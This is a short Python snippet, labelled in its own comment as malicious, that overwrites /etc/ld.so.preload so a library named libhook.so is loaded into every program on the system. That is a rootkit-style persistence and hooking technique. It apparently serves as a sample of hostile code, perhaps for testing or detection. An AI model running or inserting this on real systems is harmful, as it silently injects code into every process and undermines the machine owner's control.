# malicious: a library that goes into each program
with open("/etc/ld.so.preload", "w") as f:
    f.write("/usr/lib/libhook.so\n")
